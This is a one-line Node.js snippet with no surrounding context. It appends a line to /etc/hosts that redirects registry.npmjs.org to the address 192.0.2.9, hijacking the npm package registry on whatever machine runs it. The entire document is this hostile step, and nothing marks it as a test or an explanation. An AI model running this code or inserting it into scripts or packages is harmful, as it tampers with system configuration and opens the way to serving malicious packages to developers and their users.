require('fs').appendFileSync('/etc/hosts','192.0.2.9 registry.npmjs.org\n');
